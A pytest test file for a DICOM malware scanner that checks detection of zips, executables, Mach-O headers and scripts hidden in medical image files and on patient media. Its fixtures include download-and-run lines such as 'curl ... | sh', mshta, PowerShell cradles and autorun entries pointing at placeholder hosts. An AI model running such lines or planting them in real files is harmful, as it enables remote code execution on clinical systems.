"""Round 3 of the outside tester's findings on signatures, the embedded family and the preamble:
each sample is built here from pydicom's test files, and each test failed before its fix."""

from __future__ import annotations

import os
import random
import struct
import time

import pytest
from scan_samples import above, base, ct, encapsulated, encode, pdf_document, quiet, rules, zip_bytes

from pacsguard.scan import part10, signatures
from pacsguard.scan.model import Level
from pacsguard.scan.scanner import Scanner


def element(tag: int, vr: bytes, value: bytes, long: bool = True) -> bytes:
    """One explicit VR little endian element (PS3.5 7.1.2): a 4-byte length after two reserved
    bytes (``long``, as for OB, UR and a VR a reader does not know) or a 2-byte one."""
    value += b"\x00" * (len(value) % 2)
    head = struct.pack("<HH", tag >> 16, tag & 0xFFFF) + vr
    return head + (b"\x00\x00" + struct.pack("<I", len(value)) if long else struct.pack("<H", len(value))) + value


def splice(data: bytes, raw: bytes) -> bytes:
    """``raw`` (one encoded element) put into a Part-10 file at its place in tag order."""
    tag = (struct.unpack_from("<H", raw)[0] << 16) | struct.unpack_from("<H", raw, 2)[0]
    at = next(e.offset for e in part10.read(data).elements if e.depth == 0 and e.tag > tag)
    return data[:at] + raw + data[at:]


def ct_without(*keywords: str) -> bytes:
    ds = base()
    for keyword in keywords:
        delattr(ds, keyword)
    return encode(ds)


def with_private(value: bytes) -> bytes:
    ds = base()
    ds.private_block(0x0009, "PACSGUARD TEST", create=True).add_new(0x10, "OB", value + b"\x00" * (len(value) % 2))
    return encode(ds)


PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)


# 1. Zip member names that are not ASCII (signatures.verify, APPNOTE.TXT 4.4.4 bit 11, 4.4.17).

def zip_named(name: str, utf8_flag: bool = True) -> bytes:
    """A zip whose member name is UTF-8, with the language encoding flag (bit 11) as Python's
    zipfile sets it, or without it, as Info-ZIP on Linux and many cameras write names."""
    data = bytearray(zip_bytes({name: PE}))
    if not utf8_flag:
        for magic, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(magic)
            flags = struct.unpack_from("<H", data, at + flags_at)[0]
            struct.pack_into("<H", data, at + flags_at, flags & ~0x0800)
    return bytes(data)


@pytest.mark.parametrize("name,flag", [("Befund_\u00e4.exe", True), ("Befund_\u00e4.exe", False),
                                       ("\u5831\u544a.exe", True), ("r\u00e9sultat/\u00e9t\u00e9.exe", False)],
                         ids=["utf8-flag", "utf8-no-flag", "cjk", "folder-no-flag"])
def test_a_zip_with_a_utf8_member_name_in_a_value_is_found(name: str, flag: bool, scanner: Scanner) -> None:
    payload = zip_named(name, flag)
    assert bool(struct.unpack_from("<H", payload, 6)[0] & 0x0800) == flag
    data = quiet(lambda: with_private(payload))
    zips = [f for f in scanner.scan_bytes(data, "zip").findings if f.rule == "embedded.zip"]
    assert zips and zips[0].level == Level.HIGH and zips[0].offset is not None
    assert data[zips[0].offset:zips[0].offset + 4] == b"PK\x03\x04"


def test_a_cp437_member_name_is_a_zip_too() -> None:
    """APPNOTE.TXT Appendix D.1: without bit 11 the name is IBM code page 437 (any byte)."""
    payload = zip_named("x.exe", False).replace(b"x.exe", "\u00e4.exe".encode("cp437"))
    assert signatures.verify("zip", payload, 0) is not None


def local_header(name: bytes, method: int = 8, version: int = 20, flags: int = 0) -> bytes:
    """APPNOTE.TXT 4.3.7: a local file header with these fields and a plausible rest."""
    return b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", version, flags, method, 0, 0, 0, 10, 10, len(name), 0) + name


@pytest.mark.parametrize("name", [b"a\x00b.exe", b"\x01\x02\x03\x04", b"evil\x7f", b"line\nbreak", b"\x00" * 8],
                         ids=["nul", "controls", "del", "newline", "zeros"])
def test_a_member_name_with_controls_is_no_zip(name: bytes) -> None:
    assert signatures.verify("zip", local_header(name) + bytes(64), 0) is None


def test_a_utf8_flag_over_bytes_that_are_not_utf8_is_no_zip() -> None:
    """APPNOTE.TXT 4.4.4: bit 11 says the name is UTF-8; bytes that are not are no zip writer's."""
    assert signatures.verify("zip", local_header(b"\xff\xfe\xfd.exe", flags=0x0800) + bytes(64), 0) is None
    assert signatures.verify("zip", local_header("\u00e4.exe".encode(), flags=0x0800) + bytes(64), 0) is not None


def test_pixel_data_full_of_local_header_magic_is_still_no_zip(scanner: Scanner) -> None:
    """16-bit pixel data (values under 4096, so every other byte is under 0x20) around copies of
    "PK\\3\\4" with a version and method that pass: the name's bytes give it away."""
    rng = random.Random(3)
    words = [rng.randrange(4096) for _ in range(128 * 128)]
    pixels = bytearray(struct.pack(f"<{len(words)}H", *words))
    for at in range(0, len(pixels) - 64, 512):
        pixels[at:at + 30] = local_header(b"")[:26] + struct.pack("<HH", 16, 0)
    ds = base()
    ds.PixelData = bytes(pixels)
    report = scanner.scan_bytes(encode(ds), "pixels")
    assert "embedded.zip" not in rules(report)
    assert above(report, Level.LOW) == []


# 2. Payloads in values of any VR (rules/embedded.searched, PS3.5 6.2, 7.1.2).

ZIP = zip_bytes({"evil.exe": PE})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(range(200))


@pytest.mark.parametrize("raw,kind", [
    (element(0x00081190, b"UR", ZIP), "zip"),
    (element(0x00081190, b"UR", OLE), "ole"),
    (element(0x00081030, b"LO", ZIP, long=False), "zip"),
    (element(0x00081030, b"XX", RAR), "rar"),
    (element(0x00081030, b"XX", ZIP), "zip"),
    (element(0x00080081, b"ST", PE, long=False), "pe"),
    (element(0x00321066, b"UC", ZIP), "zip"),
], ids=["zip-UR", "ole-UR", "zip-LO", "rar-unknown-VR", "zip-unknown-VR", "pe-ST", "zip-UC"])
def test_a_payload_in_a_standard_value_of_any_vr_is_found(raw: bytes, kind: str, scanner: Scanner) -> None:
    data = splice(quiet(lambda: ct_without("StudyDescription")), raw)
    assert part10.read(data).top(struct.unpack_from("<HH", raw)[0] << 16 | struct.unpack_from("<HH", raw)[1])
    for engine in (scanner, Scanner()):  # YARA's needles, and the search of its own
        found = rules(engine.scan_bytes(data, "vr"))
        assert found.get(f"embedded.{kind}") == Level.HIGH, found


def test_the_values_searched_are_those_that_can_hold_a_signature() -> None:
    """The cost stays that of the values that can hold a signature: shorter ones are skipped."""
    from pacsguard.scan.rules import embedded

    parsed = part10.read(ct())
    searched = embedded.searched(parsed)
    assert all(e.length >= signatures.SMALLEST_HEADER or e.fragments for e in searched)
    assert {e.vr for e in searched} >= {"UI", "LO", "OW"}


# 3. The preamble: 64-bit fat Mach-O and text behind a byte order mark (rules/preamble, PS3.10 7.1).

ARCH = struct.pack(">II", 0x01000007, 3)


@pytest.mark.parametrize("head", [b"\xca\xfe\xba\xbf" + struct.pack(">I", 2) + ARCH,
                                  b"\xbf\xba\xfe\xca" + struct.pack("<I", 2) + ARCH[::-1],
                                  b"\xbe\xba\xfe\xca" + struct.pack("<I", 2) + ARCH[::-1]],
                         ids=["fat64", "fat64-swapped", "fat-swapped"])
def test_a_fat_macho_preamble_of_any_form_is_high(head: bytes, scanner: Scanner) -> None:
    found = rules(scanner.scan_bytes(quiet(lambda: ct(head.ljust(128, b"\x00"))), "fat"))
    assert found.get("preamble.macho") == Level.HIGH, found


CONFIG = '{"RemoteAccessAllowed": true, "ExecuteLuaEnabled": true}'


@pytest.mark.parametrize("preamble", [b"\xef\xbb\xbf" + CONFIG.encode(),
                                      b"\xff\xfe" + CONFIG[:58].encode("utf-16-le"),
                                      b"\xfe\xff" + CONFIG[:58].encode("utf-16-be")],
                         ids=["utf8-bom", "utf16-le", "utf16-be"])
def test_json_configuration_behind_a_byte_order_mark_is_high(preamble: bytes, scanner: Scanner) -> None:
    data = quiet(lambda: ct(preamble.ljust(128, b" ")))
    assert rules(scanner.scan_bytes(data, "json")).get("preamble.json") == Level.HIGH


def test_a_script_behind_a_utf8_byte_order_mark_is_high(scanner: Scanner) -> None:
    data = quiet(lambda: ct(b"\xef\xbb\xbf#!/bin/sh\ncurl http://x.invalid/p | sh\n".ljust(128, b"\x00")))
    assert rules(scanner.scan_bytes(data, "sh")).get("preamble.script") == Level.HIGH


# 4. Scripts on media, by content (signatures.identify) and by name (signatures.script_name).

SCRIPTS = {
    "run.js": b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd');\r\n",
    "run.vbs": b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd\"\r\n",
    "run.bat": b"start setup.exe\r\n",
    "viewer.cmd": b"cd /d %~dp0\r\nstart viewer\\viewer.exe %1\r\n",
    "quoted.cmd": b'"%~dp0viewer\\viewer.exe" /dicomdir\r\n',
    "title.bat": b'start "" "Viewer\\DicomViewer.EXE"\r\n',
    "upper.bat": b"START VIEWER.EXE\r\n",
    "mshta.bat": b"mshta http://x.invalid/a.hta\r\n",
    "copy.bat": b"REM copy the study\r\nset DEST=%TEMP%\\s\r\ncopy *.* %DEST%\r\ndel /q %DEST%\\*.tmp\r\n",
    "cradle.ps1": b"$w=New-Object Net.WebClient; Invoke-Expression $w.DownloadString('http://x/a')\r\n",
    "enc.ps1": b"powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=\r\n",
    "iwr.ps1": b"Invoke-WebRequest -Uri http://x.invalid/a.exe -OutFile $env:TEMP\\a.exe\r\n",
    "AUTORUN.INF": b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n",
    "autorun-shell.inf": b"[AutoRun]\r\nshellexecute=viewer\\start.exe\r\nlabel=Patient CD\r\n",
    "run.vbe": b"#@~^GQAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@\r\n",
    "utf16.js": "\ufeffvar s = new ActiveXObject('WScript.Shell');\r\n".encode("utf-16-le"),
    "shortcut.lnk": struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + bytes(56),
}


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_a_script_on_media_is_an_executable_file(name: str) -> None:
    found = rules(Scanner().scan_bytes(SCRIPTS[name], name))
    assert found.get("structure.executable-file") == Level.MEDIUM, found


READMES = {
    "README.TXT": b"Patient CD\r\n\r\nStart the viewer by double-clicking viewer.exe.\r\nTo copy the images, "
                  b"set the destination folder in the viewer and press Copy.\r\nDelete the temporary files "
                  b"afterwards.\r\n",
    "LIESMICH.TXT": "Diese CD enth\u00e4lt Bilder. Starten Sie den Viewer mit START.EXE.\r\n".encode("cp1252"),
    "readme-utf16.txt": "\ufeffStart the viewer: double-click viewer.exe\r\nCopy: see the manual\r\n".encode(
        "utf-16-le"),
    "one-line.txt": b"Start here.\r\n",
    "names-a-program.txt": b"viewer.exe shows the images.\r\n",
    "capitals.txt": b"Set up the viewer\r\nStart viewer.exe\r\nCall us: 555 0100\r\n",
    "license.txt": b"Permission is hereby granted, free of charge, to any person obtaining a copy of this "
                   b"software, to deal in the Software without restriction, including the rights to use, copy, "
                   b"modify, merge, publish, distribute.\n",
    "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=viewer.exe,0\r\n",
    "model.obj": b"# cube\nmtllib cube.mtl\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n",
    "notes.csv": b"set,value\r\nstart,1\r\ncopy,2\r\n",
    "index.htm-less.json": b'{"study": "1.2.3", "set": "A"}\n',
}


@pytest.mark.parametrize("name", sorted(READMES))
def test_plain_text_on_media_is_only_a_note(name: str) -> None:
    found = rules(Scanner().scan_bytes(READMES[name], name))
    assert found == {"structure.not-dicom": Level.INFO}, found


def test_no_pydicom_file_is_identified_as_a_script() -> None:
    from pydicom.data import get_testdata_files

    for path in filter(os.path.isfile, get_testdata_files()):
        with open(path, "rb") as f:
            assert signatures.identify(f.read(65536)) != "script", path


@pytest.mark.parametrize("name,expected", [
    ("RUN.BAT", True), ("x.cmd", True), ("a.ps1", True), ("a.vbs", True), ("a.VBE", True), ("a.js", True),
    ("a.jse", True), ("a.wsf", True), ("a.hta", True), ("a.lnk", True), ("a.scr", True), ("AUTORUN.INF", True),
    ("cd/Autorun.inf", True), ("setup.inf", False), ("IM000001", False), ("README.TXT", False),
    ("DICOMDIR", False), ("report.pdf", False), ("a.json", False), ("bat", False),
])
def test_script_names(name: str, expected: bool) -> None:
    assert signatures.script_name(name) is expected


# 5. A benign CDA behind a byte order mark is no MIME mismatch (rules/embedded._mime).

CDA = ('<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Report</title>'
       "</ClinicalDocument>\n")


@pytest.mark.parametrize("document", [
    b"\xef\xbb\xbf" + CDA.encode(),
    CDA.replace("UTF-8", "UTF-16").encode("utf-16"),
    b"\xff\xfe" + CDA.replace("UTF-8", "UTF-16").encode("utf-16-le"),
    b"\xfe\xff" + CDA.replace("UTF-8", "UTF-16").encode("utf-16-be"),
    b"\xff\xfe\x00\x00" + CDA.replace("UTF-8", "UTF-32").encode("utf-32-le"),
    b"\xef\xbb\xbf\r\n  " + CDA.encode(),
], ids=["utf8", "utf16", "utf16-le", "utf16-be", "utf32-le", "utf8-then-space"])
@pytest.mark.parametrize("mime", ["text/XML", "application/xml"])
def test_a_cda_behind_a_byte_order_mark_is_no_mime_mismatch(document: bytes, mime: str, scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: pdf_document(document, mime)), "cda")
    assert above(report, Level.LOW) == []


@pytest.mark.parametrize("document", [b"\xef\xbb\xbf" + PE, b"\xef\xbb\xbfnot xml at all",
                                      "plain text".encode("utf-16")], ids=["bom-pe", "bom-text", "utf16-text"])
def test_what_is_no_xml_behind_a_byte_order_mark_is_still_a_mismatch(document: bytes, scanner: Scanner) -> None:
    report = scanner.scan_bytes(quiet(lambda: pdf_document(document, "text/xml")), "cda")
    assert rules(report).get("embedded.mime-mismatch") == Level.HIGH


# 6. Many pixel data fragments: the seam search is linear (rules/embedded._across_fragments).

@pytest.mark.timeout(60)
def test_twenty_thousand_empty_fragments_scan_in_linear_time(scanner: Scanner) -> None:
    data = quiet(lambda: encapsulated(b"\xff\xd8\xff\xd9", *[b""] * 20_000))
    started = time.perf_counter()
    report = scanner.scan_bytes(data, "fragments")
    assert time.perf_counter() - started < 3, "the seam search walked back over empty fragments"
    assert "embedded.zip" not in rules(report)


@pytest.mark.timeout(60)
def test_many_two_byte_fragments_of_magic_numbers_scan_in_linear_time(scanner: Scanner) -> None:
    """Every boundary has a zip's magic number within SEAM_BACK bytes before it, none a zip."""
    stream = b"PK\x03\x04\x14\x00" * 10_000
    data = quiet(lambda: encapsulated(*[stream[i:i + 2] for i in range(0, len(stream), 2)]))
    started = time.perf_counter()
    scanner.scan_bytes(data, "fragments")
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("empties", [1, 3, 500])
def test_a_zip_split_across_fragments_with_empty_ones_between_is_found(empties: int, scanner: Scanner) -> None:
    payload = zip_bytes({"evil.exe": PE})
    stream = b"\xff\xd8" + bytes(30) + payload + bytes(64 + len(payload) % 2)
    cut = 32 + 12  # inside the local file header
    data = quiet(lambda: encapsulated(stream[:cut], *[b""] * empties, stream[cut:]))
    found = [f for f in scanner.scan_bytes(data, "frag").findings if f.rule == "embedded.zip"]
    assert found and found[0].tag == "(7FE0,0010)" and found[0].offset is not None
    assert data[found[0].offset:found[0].offset + 4] == b"PK\x03\x04"
    assert f"fragments 2 and {3 + empties}" in found[0].explanation


def test_a_zip_spread_over_two_byte_fragments_is_found(scanner: Scanner) -> None:
    payload = zip_bytes({"evil.exe": PE})
    stream = b"\xff\xd8" + bytes(30) + payload + bytes(64 + len(payload) % 2)
    data = quiet(lambda: encapsulated(*[stream[i:i + 2] for i in range(0, len(stream), 2)]))
    found = [f for f in scanner.scan_bytes(data, "frag").findings if f.rule == "embedded.zip"]
    assert found and found[0].offset is not None and data[found[0].offset:found[0].offset + 2] == b"PK"


# 7. Many small values each holding a magic number (signatures.verify_all).

@pytest.mark.timeout(60)
def test_two_hundred_thousand_values_with_a_magic_number_scan_in_linear_time() -> None:
    count = 200_000
    values = b"".join(struct.pack("<HH", 0x0029 + 2 * (i // 50_000), 0x1000 + i % 50_000) + b"OB\x00\x00"
                      + struct.pack("<I", 8) + b"PK\x03\x04\x14\x00\x00\x00" for i in range(count))
    data = quiet(ct) + values
    zip_needle = signatures.NEEDLES.index(("zip", b"PK\x03\x04"))
    needles = [(zip_needle, at + 12) for at in range(len(data) - len(values), len(data), 20)]
    spans = [(at, at + 8) for _, at in needles]
    started = time.perf_counter()
    budget = signatures.Budget()
    hits = [signatures.verify_all(data, needles, start, end, limit=2, budget=budget) for start, end in spans]
    assert time.perf_counter() - started < 5, "verify_all copied the rest of the needles for every value"
    assert not any(h.kind == "zip" for found in hits for h in found)


@pytest.mark.timeout(120)
def test_a_file_of_two_hundred_thousand_such_values_scans_in_seconds(scanner: Scanner) -> None:
    values = b"".join(struct.pack("<HH", 0x0029 + 2 * (i // 50_000), 0x1000 + i % 50_000) + b"OB\x00\x00"
                      + struct.pack("<I", 8) + b"PK\x03\x04\x14\x00\x00\x00" for i in range(200_000))
    ds = base()
    for tag in [t for t in ds.keys() if 0x0029 <= t.group <= 0x002F]:
        del ds[tag]
    data = quiet(lambda: encode(ds))
    at = next(e.offset for e in part10.read(data).elements if e.depth == 0 and e.group > 0x002F)
    data = data[:at] + values + data[at:]  # in tag order, before the pixel data
    started = time.perf_counter()
    report = scanner.scan_bytes(data, "values")
    assert time.perf_counter() - started < 10
    assert "embedded.zip" not in rules(report) and above(report, Level.LOW) == []


def test_a_64_bit_fat_macho_in_a_value_is_found(scanner: Scanner) -> None:
    data = quiet(lambda: with_private(b"\xca\xfe\xba\xbf" + struct.pack(">I", 2) + ARCH + bytes(40)))
    assert rules(scanner.scan_bytes(data, "fat64")).get("embedded.macho") == Level.HIGH


@pytest.mark.parametrize(("name", "data", "level"), [
    ("setup.bat", b"copy a b\r\n", Level.MEDIUM),
    ("cd/AUTORUN.INF", b"[AutoRun]\r\nlabel=Patient CD\r\n", Level.MEDIUM),
    ("export.zip!tools/run.ps1", b"Write-Host hello\n", Level.MEDIUM),
    ("README.txt", b"copy a b\r\n", Level.INFO),
])
def test_a_file_named_as_a_script_is_an_executable_file_whatever_it_holds(name: str, data: bytes,
                                                                          level: Level) -> None:
    """Windows runs a .bat, a .ps1 or AUTORUN.INF by its name: a harmless-looking one on media is
    still a program brought in, where a text file with the same bytes is a note."""
    report = Scanner().scan_bytes(data, name)
    rules = {f.rule: f.level for f in report.findings}
    wanted = "structure.executable-file" if level == Level.MEDIUM else "structure.not-dicom"
    assert rules == {wanted: level}, report.findings
